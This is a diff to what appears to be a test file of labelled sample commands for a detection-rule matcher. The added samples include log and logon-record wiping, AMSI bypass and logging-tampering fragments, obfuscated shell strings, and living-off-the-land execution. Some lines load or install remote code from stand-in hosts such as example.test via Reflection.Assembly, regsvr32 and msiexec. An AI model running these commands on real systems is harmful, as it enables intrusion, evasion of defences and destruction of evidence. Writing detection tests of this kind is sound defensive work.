@@ -7,6 +7,9 @@ import { readExamples, rulesMatching } from './matching-rules.js';
 const examples = readExamples(String.raw`
 event-log-clear: wevtutil cl System
 log-clear-unix: rm -rf /var/log/syslog
+log-clear-unix: true > /var/log/messages
+logon-records-clear: cat /dev/null > /var/log/wtmp
+logon-records-clear: > /var/log/auth.log
 mail-spool-clear: rm -rf /var/mail/root
 history-clear-unix: history -c
 history-clear-unix: rm ~/.bash_history
@@ -16,12 +19,14 @@ file-delete-windows: del /f %temp%\x.txt
 file-delete-windows: Remove-Item -Path $env:TEMP\x
 file-delete-unix: rm -f /tmp/x
 prefetch-clear: del C:\Windows\Prefetch\*.pf
+recycle-bin-clear: rd /s /q C:\$Recycle.Bin
 share-removal: net use \\server1\share /delete
 admin-shares-off: reg add HKLM\SYSTEM\CurrentControlSet\Services\LanmanServer\Parameters /v AutoShareWks /d 0
 timestomp-windows: (Get-Item x).LastWriteTime = '01/01/2001'
 timestomp-unix: touch -r a b
 usn-delete: fsutil usn deletejournal /D C:
-indicator-removal: ipconfig /flushdns
+indicator-removal: rundll32.exe InetCpl.cpl,ClearMyTracksByProcess 255
+dns-cache-clear: ipconfig /flushdns
 network-history-clear: reg delete "HKCU\Software\Microsoft\Terminal Server Client\Default" /va /f
 persistence-clear: schtasks /delete /tn x /f
 relocate: copy "%~f0" "%TEMP%\x.bat"
@@ -62,6 +67,9 @@ quoted-member: & 'Invoke-Expression' $x
 separator-variable: ping$IFS-c$IFS\192.0.2.1
 separator-variable: IFS=','; x='ping,192.0.2.1'; $x
 brace-words: {ping,-c,1,192.0.2.1}
+shell-slices: ${'$'}{z:2:1}${'$'}{z:20:1}${'$'}{z:17:1} x
+shell-escapes: $'\x77\x67\x65\x74' x
+shell-escapes: printf '%b' '\0150\0164\0164\0160\0072\0057'
 string-replace-run: ('a'+'b'+'c')
 binary-padding: dd if=/dev/zero bs=1 count=1 >> x
 packing: upx -9 x
@@ -101,6 +109,14 @@ protection-policy: reg add "HKLM\SOFTWARE\Microsoft\Windows Defender\Features" /
 amsi-bypass: [Ref].Assembly.GetType('x.AmsiUtils')
 etw-patch: set COMPlus_ETWEnabled=0
 etw-session: logman stop EventLog-Example -ets
+amsi-bypass: if ($t.Name -like "*iUtils") { $t }
+mshta-script: mshta vbscript:Close(1)
+install-util-quiet: InstallUtil.exe /logfile= /LogToConsole=false /U x.dll
+rundll32-script: rundll32 javascript:"\..\mshtml,RunHTMLApplication"
+system-name-elsewhere: Start-Process C:\ProgramData\Sync\svchost.exe
+logging-policy-in-memory: $t.GetField('cachedGroupPolicySettings', 'NonPublic,Static')
+remote-assembly: [Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example.test/x'))
+regsvr32-scriptlet: regsvr32 /s /n /u /i:x.sct scrobj.dll
 script-block-logging: reg add x /v EnableScriptBlockLogging /d 0
 sysmon-tamper: fltmc.exe unload SysmonDrv
 security-service-stop: systemctl stop falcon-sensor
@@ -146,8 +162,11 @@ mshta: mshta.exe x.hta
 mshta-remote: mshta http://example.test/x.hta
 hta-file: start x.hta
 msiexec: msiexec /q /i http://example.test/x.msi
+msiexec-remote: msiexec /q /i http://example.test/x.msi
+msiexec-remote: msiexec.exe /package https://example.test/x.msi /qn
 odbcconf: odbcconf.exe /a {REGSVR x.dll}
 regsvcs-regasm: regasm.exe /U x.dll
+regsvr32-remote: regsvr32 /s /n /u /i:http://example.test/x.sct scrobj.dll
 regsvr32: regsvr32 /s /u /i:http://example.test/x.sct scrobj.dll
 rundll32: rundll32.exe x.dll,Start
 verclsid: verclsid.exe /S /C {x}
@@ -156,6 +175,7 @@ mmc: mmc.exe -Embedding x.msc
 electron: teams.exe --gpu-launcher="calc"
 proxy-binaries: InfDefaultInstall.exe x.inf
 dfshim: rundll32 dfshim.dll,ShOpenVerbApplication http://example.test/x
+msbuild-temp: msbuild.exe %temp%\p.csproj
 msbuild: MSBuild.exe x.csproj
 developer-tools: Microsoft.Workflow.Compiler.exe x y
 system-scripts: cscript manage-bde.wsf
